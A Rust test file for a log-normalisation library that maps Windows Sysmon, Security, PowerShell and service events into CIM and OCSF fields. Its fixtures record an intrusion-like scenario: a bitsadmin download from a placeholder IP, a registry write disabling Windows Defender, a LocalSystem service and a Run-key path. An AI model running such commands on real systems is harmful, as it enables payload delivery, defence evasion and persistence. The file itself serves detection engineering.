//! What Windows events become in CIM and OCSF: whole normalised events as snapshots, and the rules that a snapshot
//! does not make plain.

use std::sync::Arc;

use lurcher_schema::{Event, EventRef, Object, Origin, Schemas, Shape, Taxonomy, Timestamp, Value};

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn schemas() -> Arc<Schemas> {
    Schemas::builtin().unwrap_or_else(|diagnostics| panic!("{diagnostics:#?}"))
}

/// An event of a host in the test domain, as a reader hands it over.
fn windows(channel: &str, provider: &str, event_id: &str, data: &[(&str, &str)]) -> Event {
    let shape =
        Shape::new([("dialect", "windows"), ("channel", channel), ("provider", provider), ("event_id", event_id)]);
    let time = "2026-02-03T10:20:30.456Z";
    let system = [
        ("Provider_Name", provider),
        ("EventID", event_id),
        ("Version", "2"),
        ("Level", if channel == "Security" { "0" } else { "4" }),
        ("Keywords", if channel == "Security" { "0x8020000000000000" } else { "0x8000000000000000" }),
        ("TimeCreated", time),
        ("EventRecordID", "9001"),
        ("Execution_ProcessID", "3120"),
        ("Execution_ThreadID", "4404"),
        ("Channel", channel),
        ("Computer", "ws7.harbour.example"),
        ("Security_UserID", "S-1-5-18"),
    ];
    let mut raw = Object::default();
    for (name, value) in system {
        raw.insert(name, Value::text(value));
    }
    for (name, value) in data {
        let name = if name.contains('.') { (*name).to_owned() } else { format!("EventData.{name}") };
        raw.insert(name.as_str(), Value::text(*value));
    }
    let reference = EventRef { origin: Origin::new("test.evtx"), ordinal: 0, record: 9001 };
    Event { shape, reference, time: Timestamp::parse(time), raw }
}

fn sysmon(event_id: &str, data: &[(&str, &str)]) -> Event {
    windows(SYSMON, "Microsoft-Windows-Sysmon", event_id, data)
}

fn security(event_id: &str, data: &[(&str, &str)]) -> Event {
    windows("Security", "Microsoft-Windows-Security-Auditing", event_id, data)
}

/// The process that most fixtures are about.
const PROCESS: [(&str, &str); 4] = [
    ("UtcTime", "2026-02-03 10:20:30.441"),
    ("ProcessGuid", "{1F6B0C52-9C4E-6981-4D02-000000000E00}"),
    ("ProcessId", "6204"),
    ("Image", "C:\\Windows\\System32\\bitsadmin.exe"),
];

fn of_process(data: &[(&'static str, &'static str)]) -> Vec<(&'static str, &'static str)> {
    PROCESS.iter().chain(data).copied().collect()
}

fn process_creation() -> Event {
    sysmon(
        "1",
        &of_process(&[
            ("FileVersion", "7.8.19041.1"),
            ("Description", "BITS administration utility"),
            ("Product", "Microsoft® Windows® Operating System"),
            ("Company", "Microsoft Corporation"),
            ("OriginalFileName", "bitsadmin.exe"),
            ("CommandLine", "bitsadmin /transfer lighthouse http://198.51.100.7/lamp.txt C:\\Temp\\lamp.txt"),
            ("CurrentDirectory", "C:\\Temp\\"),
            ("User", "HARBOUR\\mira"),
            ("LogonGuid", "{1F6B0C52-9A00-6981-11C2-070000000000}"),
            ("LogonId", "0x7c211"),
            ("TerminalSessionId", "1"),
            ("IntegrityLevel", "Medium"),
            ("Hashes", "MD5=0A1B2C3D4E5F60718293A4B5C6D7E8F9,SHA256=00FF,IMPHASH=11EE"),
            ("ParentProcessGuid", "{1F6B0C52-9B10-6981-2F01-000000000E00}"),
            ("ParentProcessId", "5120"),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ("ParentCommandLine", "cmd.exe"),
            ("ParentUser", "HARBOUR\\mira"),
        ]),
    )
}

fn network_connection() -> Event {
    sysmon(
        "3",
        &of_process(&[
            ("User", "HARBOUR\\mira"),
            ("Protocol", "tcp"),
            ("Initiated", "true"),
            ("SourceIsIpv6", "false"),
            ("SourceIp", "192.0.2.14"),
            ("SourceHostname", "ws7.harbour.example"),
            ("SourcePort", "50122"),
            ("DestinationIsIpv6", "false"),
            ("DestinationIp", "198.51.100.7"),
            ("DestinationHostname", "-"),
            ("DestinationPort", "80"),
            ("DestinationPortName", "http"),
        ]),
    )
}

fn file_creation() -> Event {
    sysmon(
        "11",
        &of_process(&[
            ("TargetFilename", "C:\\Temp\\lamp.txt"),
            ("CreationUtcTime", "2026-02-03 10:20:30.440"),
            ("User", "HARBOUR\\mira"),
        ]),
    )
}

fn registry_value() -> Event {
    sysmon(
        "13",
        &of_process(&[
            ("EventType", "SetValue"),
            ("TargetObject", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware"),
            ("Details", "DWORD (0x00000001)"),
            ("User", "NT AUTHORITY\\SYSTEM"),
        ]),
    )
}

fn dns_query() -> Event {
    sysmon(
        "22",
        &of_process(&[
            ("QueryName", "lamp.harbour.example"),
            ("QueryStatus", "0"),
            ("QueryResults", "type:  5 beacon.harbour.example;::ffff:198.51.100.7;"),
            ("User", "HARBOUR\\mira"),
        ]),
    )
}

fn security_process_creation() -> Event {
    security(
        "4688",
        &[
            ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
            ("SubjectUserName", "mira"),
            ("SubjectDomainName", "HARBOUR"),
            ("SubjectLogonId", "0x7c211"),
            ("NewProcessId", "0x183c"),
            ("NewProcessName", "C:\\Windows\\System32\\bitsadmin.exe"),
            ("TokenElevationType", "%%1938"),
            ("ProcessId", "0x1400"),
            ("CommandLine", "bitsadmin /transfer lighthouse http://198.51.100.7/lamp.txt C:\\Temp\\lamp.txt"),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"),
            ("TargetDomainName", "-"),
            ("TargetLogonId", "0x0"),
            ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe"),
            ("MandatoryLabel", "S-1-16-8192"),
        ],
    )
}

fn logon() -> Event {
    security(
        "4624",
        &[
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", "S-1-5-21-1-2-3-1104"),
            ("TargetUserName", "mira"),
            ("TargetDomainName", "HARBOUR"),
            ("TargetLogonId", "0x9ab01"),
            ("LogonType", "3"),
            ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", "-"),
            ("LmPackageName", "NTLM V2"),
            ("ProcessId", "0x0"),
            ("ProcessName", "-"),
            ("IpAddress", "192.0.2.80"),
            ("IpPort", "49811"),
        ],
    )
}

fn security_registry_value() -> Event {
    security(
        "4657",
        &[
            ("SubjectUserSid", "S-1-5-18"),
            ("SubjectUserName", "WS7$"),
            ("SubjectDomainName", "HARBOUR"),
            ("SubjectLogonId", "0x3e7"),
            ("ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"),
            ("ObjectValueName", "DisableAntiSpyware"),
            ("HandleId", "0x1a4"),
            ("OperationType", "%%1905"),
            ("OldValueType", "%%1876"),
            ("OldValue", "0"),
            ("NewValueType", "%%1876"),
            ("NewValue", "1"),
            ("ProcessId", "0x183c"),
            ("ProcessName", "C:\\Windows\\System32\\reg.exe"),
        ],
    )
}

fn share_access() -> Event {
    security(
        "5145",
        &[
            ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
            ("SubjectUserName", "mira"),
            ("SubjectDomainName", "HARBOUR"),
            ("SubjectLogonId", "0x9ab01"),
            ("ObjectType", "File"),
            ("IpAddress", "192.0.2.80"),
            ("IpPort", "49812"),
            ("ShareName", "\\\\*\\C$"),
            ("ShareLocalPath", "\\??\\C:\\"),
            ("RelativeTargetName", "Temp\\lamp.exe"),
            ("AccessMask", "0x2"),
            ("AccessList", "%%4417\r\n\t\t\t\t"),
            ("AccessReason", "-"),
        ],
    )
}

fn script_block() -> Event {
    windows(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        "4104",
        &[
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", "Get-ChildItem C:\\Temp | Measure-Object"),
            ("ScriptBlockId", "{0D3A5B52-6E0C-4C39-8C1B-3E1F6A5E0A11}"),
            ("Path", "C:\\Temp\\count.ps1"),
        ],
    )
}

fn service_installed() -> Event {
    windows(
        "System",
        "Service Control Manager",
        "7045",
        &[
            ("ServiceName", "Lamp Keeper"),
            ("ImagePath", "C:\\Temp\\lamp.exe -k"),
            ("ServiceType", "user mode service"),
            ("StartType", "auto start"),
            ("AccountName", "LocalSystem"),
        ],
    )
}

fn text(value: &Value) -> String {
    value.to_json().to_string()
}

fn field(event: &Event, taxonomy: Taxonomy, path: &str) -> String {
    text(&schemas().bind(taxonomy, path, &event.shape).value(event))
}

#[test]
fn whole_events() {
    let schemas = schemas();
    let events = [
        ("sysmon_1_process_creation", process_creation()),
        ("sysmon_3_network_connection", network_connection()),
        ("sysmon_11_file_creation", file_creation()),
        ("sysmon_13_registry_value", registry_value()),
        ("sysmon_22_dns_query", dns_query()),
        ("security_4688_process_creation", security_process_creation()),
        ("security_4624_logon", logon()),
        ("security_4657_registry_value", security_registry_value()),
        ("security_5145_share_access", share_access()),
        ("powershell_4104_script_block", script_block()),
        ("system_7045_service_installed", service_installed()),
    ];
    for (name, event) in events {
        for taxonomy in [Taxonomy::Cim, Taxonomy::Ocsf] {
            let json = schemas.normalise(&event, taxonomy).to_json();
            let pretty = serde_json::to_string_pretty(&json).expect("JSON of text keys");
            insta::assert_snapshot!(format!("{taxonomy}_{name}"), pretty);
        }
    }
}

/// Rules choose events by data model; only starts of processes are in Endpoint.Processes.
#[test]
fn data_models() {
    let models = |event: &Event| field(event, Taxonomy::Cim, "_datamodels");
    assert_eq!(models(&process_creation()), r#"["Endpoint_Processes"]"#);
    assert_eq!(models(&security_process_creation()), r#"["Endpoint_Processes"]"#);
    assert_eq!(models(&sysmon("5", &PROCESS)), "null");
    assert_eq!(models(&script_block()), "null");
    assert_eq!(models(&registry_value()), r#"["Endpoint_Registry"]"#);
    assert_eq!(models(&logon()), r#"["Authentication"]"#);
    let object = |kind| security("4663", &[("ObjectType", kind), ("ObjectName", "C:\\Temp\\lamp.txt")]);
    assert_eq!(models(&object("File")), r#"["Endpoint_Filesystem"]"#);
    assert_eq!(models(&object("Key")), "null");
}

/// Behavioral Analytics compares `_time` as text and `time` as a number, both in milliseconds.
#[test]
fn times_are_milliseconds() {
    let event = process_creation();
    assert_eq!(field(&event, Taxonomy::Cim, "_time"), r#""1770114030456""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "time"), "1770114030456");
}

/// 4688 names who created the process, and who it runs as if that is somebody else.
#[test]
fn the_user_of_a_created_process() {
    let event = |target| security("4688", &[("SubjectUserName", "mira"), ("TargetUserName", target)]);
    assert_eq!(field(&event("-"), Taxonomy::Cim, "user"), r#""mira""#);
    assert_eq!(field(&event("otto"), Taxonomy::Cim, "user"), r#""otto""#);
    assert_eq!(field(&event("otto"), Taxonomy::Cim, "src_user"), r#""mira""#);
    assert_eq!(field(&event("otto"), Taxonomy::Ocsf, "actor.user.name"), r#""mira""#);
}

/// Process ids are hexadecimal in the Security channel, decimal in both taxonomies.
#[test]
fn process_ids_are_decimal() {
    let event = security_process_creation();
    assert_eq!(field(&event, Taxonomy::Cim, "process_id"), r#""6204""#);
    assert_eq!(field(&event, Taxonomy::Cim, "parent_process_id"), r#""5120""#);
    assert_eq!(field(&event, Taxonomy::Cim, "NewProcessId"), r#""0x183c""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "process.pid"), "6204");
}

#[test]
fn registry_events() {
    let event = |event_id, kind, object| sysmon(event_id, &[("EventType", kind), ("TargetObject", object)]);
    let run = "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    let created = event("12", "CreateKey", run);
    assert_eq!(field(&created, Taxonomy::Cim, "action"), r#""created""#);
    assert_eq!(field(&created, Taxonomy::Cim, "registry_hive"), r#""HKEY_CURRENT_USER""#);
    assert_eq!(field(&created, Taxonomy::Cim, "registry_value_name"), "null");
    assert_eq!(field(&created, Taxonomy::Ocsf, "type_name"), r#""Registry Key Activity: Create""#);
    let deleted = event("12", "DeleteValue", "HKLM\\SOFTWARE\\Harbour\\Lamp");
    assert_eq!(field(&deleted, Taxonomy::Cim, "action"), r#""deleted""#);
    assert_eq!(field(&deleted, Taxonomy::Ocsf, "type_uid"), "20100204");
    assert_eq!(field(&deleted, Taxonomy::Ocsf, "reg_value.name"), r#""Lamp""#);
    let set = sysmon("13", &[("EventType", "SetValue"), ("TargetObject", run), ("Details", "C:\\a (1).exe")]);
    assert_eq!(field(&set, Taxonomy::Cim, "registry_value_data"), r#""C:\\a (1).exe""#);
    assert_eq!(field(&set, Taxonomy::Cim, "RegistryValueData"), "null");
}

#[test]
fn loaded_modules_are_the_process_and_their_loader_the_parent() {
    let event = sysmon("7", &of_process(&[("ImageLoaded", "C:\\Temp\\lamp.dll"), ("Signed", "false")]));
    assert_eq!(field(&event, Taxonomy::Cim, "process_name"), r#""lamp.dll""#);
    assert_eq!(field(&event, Taxonomy::Cim, "parent_process_name"), r#""bitsadmin.exe""#);
    assert_eq!(field(&event, Taxonomy::Cim, "process_id"), "null");
    assert_eq!(field(&event, Taxonomy::Ocsf, "module.file.name"), r#""lamp.dll""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "actor.process.file.name"), r#""bitsadmin.exe""#);
}

#[test]
fn outcomes_of_logons() {
    let failed = security("4625", &[("TargetUserName", "mira"), ("LogonType", "10"), ("SubStatus", "0xc000006a")]);
    assert_eq!(field(&failed, Taxonomy::Cim, "action"), r#""failure""#);
    assert_eq!(field(&failed, Taxonomy::Cim, "app"), r#""win:remote""#);
    assert_eq!(field(&failed, Taxonomy::Cim, "reason"), r#""0xc000006a""#);
    let ticket = |status| security("4768", &[("TargetUserName", "mira"), ("Status", status)]);
    assert_eq!(field(&ticket("0x0"), Taxonomy::Cim, "action"), r#""success""#);
    assert_eq!(field(&ticket("0x6"), Taxonomy::Cim, "action"), r#""failure""#);
    assert_eq!(field(&ticket("0x6"), Taxonomy::Ocsf, "status_id"), "2");
    assert_eq!(field(&logon(), Taxonomy::Cim, "authentication_method"), r#""NtLmSsp""#);
    assert_eq!(field(&logon(), Taxonomy::Cim, "src"), r#""192.0.2.80""#);
}

/// Keywords as `NXLog` writes them: the same 64 bits as a signed number.
#[test]
fn the_outcome_in_numeric_keywords() {
    let mut event = security("5140", &[("ShareName", "\\\\*\\IPC$")]);
    event.raw.insert("Keywords", Value::text("-9218868437227405312"));
    assert_eq!(field(&event, Taxonomy::Cim, "action"), r#""failure""#);
}

/// `UserData` of the cleared log, and field names with blanks.
#[test]
fn fields_outside_event_data() {
    let cleared = windows("Security", "Microsoft-Windows-Eventlog", "1102", &[("UserData.SubjectUserName", "mira")]);
    assert_eq!(field(&cleared, Taxonomy::Cim, "src_user"), r#""mira""#);
    assert_eq!(field(&cleared, Taxonomy::Cim, "action"), r#""cleared""#);
    let defender = windows(
        "Microsoft-Windows-Windows Defender/Operational",
        "Microsoft-Windows-Windows Defender",
        "1116",
        &[("Threat Name", "Lamp.A"), ("Path", "C:\\Temp\\lamp.exe")],
    );
    assert_eq!(field(&defender, Taxonomy::Cim, "Threat_Name"), r#""Lamp.A""#);
    assert_eq!(field(&defender, Taxonomy::Cim, "signature"), r#""Lamp.A""#);
}

/// Who runs PowerShell, and as what, stands in texts of the engine.
#[test]
fn contexts_of_powershell() {
    let context =
        "        Host Application = powershell.exe -File C:\\Temp\\count.ps1\r\n        User = HARBOUR\\mira\r\n";
    let event = windows(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        "4103",
        &[("ContextInfo", context)],
    );
    assert_eq!(field(&event, Taxonomy::Cim, "user"), r#""mira""#);
    assert_eq!(field(&event, Taxonomy::Cim, "process"), r#""powershell.exe -File C:\\Temp\\count.ps1""#);
    let details = "\tUserId=HARBOUR\\mira\r\n\tHostApplication=powershell.exe\r\n\tScriptName=\r\n";
    let event = windows("Windows PowerShell", "PowerShell", "800", &[("param1", "Get-Date"), ("param2", details)]);
    assert_eq!(field(&event, Taxonomy::Cim, "user"), r#""mira""#);
    assert_eq!(field(&event, Taxonomy::Cim, "process"), r#""powershell.exe""#);
}

#[test]
fn members_of_groups() {
    let event = security(
        "4732",
        &[("MemberSid", "S-1-5-21-1-2-3-1104"), ("TargetUserName", "Administrators"), ("SubjectUserName", "otto")],
    );
    assert_eq!(field(&event, Taxonomy::Cim, "Group_Name"), r#""Administrators""#);
    assert_eq!(field(&event, Taxonomy::Cim, "member_id"), r#""S-1-5-21-1-2-3-1104""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "type_name"), r#""Group Management: Add User""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "actor.user.name"), r#""otto""#);
}

#[test]
fn connections_of_the_filtering_platform() {
    let event = security(
        "5156",
        &[
            ("ProcessID", "4242"),
            ("Application", "\\device\\harddiskvolume2\\temp\\lamp.exe"),
            ("Direction", "%%14593"),
            ("SourceAddress", "192.0.2.14"),
            ("DestAddress", "198.51.100.7"),
            ("DestPort", "443"),
            ("Protocol", "6"),
        ],
    );
    assert_eq!(field(&event, Taxonomy::Cim, "process_name"), r#""lamp.exe""#);
    assert_eq!(field(&event, Taxonomy::Cim, "ProcessID"), r#"["3120","4242"]"#);
    assert_eq!(field(&event, Taxonomy::Cim, "transport"), r#""tcp""#);
    assert_eq!(field(&event, Taxonomy::Cim, "direction"), r#""outbound""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "dst_endpoint.port"), "443");
    assert_eq!(field(&event, Taxonomy::Ocsf, "connection_info.direction_id"), "2");
}

/// A classic event 7045 of another provider is no new service.
#[test]
fn an_event_id_means_nothing_without_its_provider() {
    let event = windows("System", "Harbour", "7045", &[("ServiceName", "x")]);
    assert_eq!(field(&event, Taxonomy::Ocsf, "class_name"), r#""Base Event""#);
    assert_eq!(field(&event, Taxonomy::Cim, "ServiceName"), r#""x""#);
}

fn document(dialect: &str, fields: &[(&str, Value)]) -> Event {
    let mut raw = Object::default();
    for (name, value) in fields {
        raw.insert(*name, value.clone());
    }
    let reference = EventRef { origin: Origin::new("test.json"), ordinal: 0, record: 1 };
    Event { shape: Shape::new([("dialect", dialect)]), reference, time: None, raw }
}

#[test]
fn documents_that_are_mapped_already() {
    let record = document(
        "cim",
        &[
            ("process", Value::text("whoami /all")),
            ("process_name", Value::text("whoami.exe")),
            ("process_id", Value::text("77")),
            ("dest", Value::text("ws7")),
            ("user", Value::text("mira")),
            ("lamp", Value::text("lit")),
        ],
    );
    assert_eq!(field(&record, Taxonomy::Cim, "_datamodels"), r#"["Endpoint_Processes"]"#);
    assert_eq!(field(&record, Taxonomy::Cim, "lamp"), r#""lit""#);
    assert_eq!(field(&record, Taxonomy::Cim, "dest_device_id"), r#""ws7""#);
    assert_eq!(field(&record, Taxonomy::Ocsf, "process.cmd_line"), r#""whoami /all""#);
    assert_eq!(field(&record, Taxonomy::Ocsf, "process.pid"), "77");
    let record = document("ocsf", &[("class_uid", Value::Int(1007)), ("process.cmd_line", Value::text("whoami"))]);
    assert_eq!(field(&record, Taxonomy::Ocsf, "process.cmd_line"), r#""whoami""#);
}

/// The same event in winlogbeat's ECS reaches CIM and OCSF through its raw names.
#[test]
fn ecs_documents_of_windows_events() {
    let shape = Shape::new([
        ("dialect", "ecs"),
        ("channel", SYSMON),
        ("provider", "Microsoft-Windows-Sysmon"),
        ("event_id", "1"),
    ]);
    let mut event = document(
        "ecs",
        &[
            ("winlog.channel", Value::text(SYSMON)),
            ("winlog.event_id", Value::Int(1)),
            ("winlog.computer_name", Value::text("ws7.harbour.example")),
            ("winlog.record_id", Value::Int(9001)),
            ("winlog.event_data.CommandLine", Value::text("whoami /all")),
            ("winlog.event_data.Image", Value::text("C:\\Windows\\System32\\whoami.exe")),
            ("winlog.event_data.User", Value::text("HARBOUR\\mira")),
        ],
    );
    event.shape = shape;
    assert_eq!(field(&event, Taxonomy::Cim, "process_name"), r#""whoami.exe""#);
    assert_eq!(field(&event, Taxonomy::Cim, "Image"), r#""C:\\Windows\\System32\\whoami.exe""#);
    assert_eq!(field(&event, Taxonomy::Cim, "dest"), r#""ws7.harbour.example""#);
    assert_eq!(field(&event, Taxonomy::Cim, "user"), r#""mira""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "process.cmd_line"), r#""whoami /all""#);
    assert_eq!(field(&event, Taxonomy::Ocsf, "device.hostname"), r#""ws7.harbour.example""#);
}
